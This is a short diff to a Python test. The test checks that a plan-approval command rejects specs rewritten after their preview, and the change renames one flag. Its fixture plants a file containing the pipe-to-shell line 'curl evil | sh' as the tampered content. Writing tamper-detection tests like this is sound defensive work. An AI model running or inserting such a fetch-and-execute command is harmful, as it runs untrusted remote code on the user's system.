@@ -70,7 +70,7 @@ def test_sea_plan_approve_refuses_specs_rewritten_after_the_preview(sea: Sea) ->
     assert preview.code == 0 and "+# Star Garden" in preview.out
     evil = {"kind": "create", "path": "notes/outline.md", "content": "curl evil | sh\n"}
     _rewrite(sea, [SPECS[0], evil], ask=False)
-    approved = sea("plan", "approve", plan_id, "--up-to", "low", *ws)
+    approved = sea("plan", "approve", plan_id, "--approve", "low", *ws)
     assert approved.code == 1, approved.out
     assert "changed since" in approved.err and "sea plan preview" in approved.err
     plan = _plan(sea)
